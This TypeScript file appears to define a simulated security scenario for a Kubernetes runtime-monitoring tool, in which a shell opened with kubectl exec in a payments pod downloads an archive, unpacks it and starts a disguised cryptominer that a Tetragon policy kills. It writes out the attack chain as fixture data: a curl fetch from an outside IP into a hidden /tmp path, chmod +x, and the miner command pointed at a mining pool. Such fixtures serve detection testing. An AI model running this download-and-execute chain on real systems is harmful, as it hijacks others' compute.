import { tcpConnect } from '../events/probe_bodies';
import type { Scenario } from '../scenario';

export const kubectlExecMiner: Scenario = {
  id: 'kubectl_exec_miner',
  title: 'kubectl exec into a payments pod, a downloaded miner killed by a policy',
  reads:
    'Somebody opened a shell in payments/api with kubectl exec (the shell hangs on the shim, beside the ' +
    'Java service, not below it). sh looked for bash and became bash in place. bash looked round, ' +
    'downloaded an archive with curl, unpacked it and started kworkerd, a miner. Its connection to port ' +
    '3333 was stopped by the policy block-mining-pools: Tetragon killed it at once, and the exit of the ' +
    'same exec_id bears SIGKILL. A second try ended the same way; then the shell was left.',
  lineage: `
sh -c "command -v bash >/dev/null && exec bash || exec sh" · replaced
└─ bash · exit 137
   ├─ id · exit 0
   ├─ curl -fsSL http://45.155.205.233/k.tgz -o /tmp/.k.tgz · tcp_connect POST · exit 0
   ├─ mkdir -p /tmp/.k · exit 0
   ├─ tar -xzf /tmp/.k.tgz -C /tmp/.k · exit 0
   │  └─ gzip -d · exit 0
   ├─ chmod +x /tmp/.k/kworkerd · exit 0
   ├─ kworkerd -o stratum+tcp://pool.minexmr.example:3333 -u 46Wf9 --donate-level 1 · tcp_connect SIGKILL · SIGKILL
   ├─ sleep 20 · exit 0
   └─ kworkerd -o stratum+tcp://pool.minexmr.example:3333 -u 46Wf9 --donate-level 1 -t 1 · tcp_connect SIGKILL · SIGKILL
`,
  tell({ world, scene }) {
    const pod = world.pod('prod-eu', 'payments', 'api', 0);
    const stage = scene(52);
    const sh = stage.inject(pod, [
      '/usr/bin/sh',
      '-c',
      'command -v bash >/dev/null && exec bash || exec sh',
    ]);
    const bash = stage.replace(sh, ['/usr/bin/bash']);
    stage.wait(4_200);
    stage.run(bash, ['/usr/bin/id']);
    stage.wait(21_000);
    const curl = stage.spawn(bash, [
      '/usr/bin/curl',
      '-fsSL',
      'http://45.155.205.233/k.tgz',
      '-o',
      '/tmp/.k.tgz',
    ]);
    stage.wait(18);
    stage.probe(
      'process_kprobe',
      curl,
      tcpConnect('network-connect', {
        from: '10.244.1.23',
        to: '45.155.205.233',
        fromPort: 41_822,
        port: 80,
      }),
    );
    stage.wait(1_340);
    stage.exit(curl);
    stage.wait(3_000);
    stage.run(bash, ['/usr/bin/mkdir', '-p', '/tmp/.k']);
    const tar = stage.spawn(bash, ['/usr/bin/tar', '-xzf', '/tmp/.k.tgz', '-C', '/tmp/.k']);
    stage.run(tar, ['/usr/bin/gzip', '-d'], { takes: 90 });
    stage.exit(tar);
    stage.wait(2_500);
    stage.run(bash, ['/usr/bin/chmod', '+x', '/tmp/.k/kworkerd']);

    const mine = (extra: readonly string[]) => {
      const miner = stage.spawn(bash, [
        '/tmp/.k/kworkerd',
        '-o',
        'stratum+tcp://pool.minexmr.example:3333',
        '-u',
        '46Wf9',
        '--donate-level',
        '1',
        ...extra,
      ]);
      stage.wait(140);
      stage.probe(
        'process_kprobe',
        miner,
        tcpConnect(
          'block-mining-pools',
          {
            from: '10.244.1.23',
            to: '94.23.247.226',
            fromPort: 41_830 + extra.length,
            port: 3_333,
          },
          'SIGKILL',
        ),
      );
      stage.exit(miner, { signal: 'SIGKILL' });
      return miner;
    };
    const miner = mine([]);
    stage.wait(4_000);
    stage.run(bash, ['/usr/bin/sleep', '20'], { takes: 20_000 });
    const secondMiner = mine(['-t', '1']);
    stage.wait(6_000);
    stage.exit(bash, { status: 137 });
    return { top: sh, shell: bash, download: curl, miner, secondMiner };
  },
};
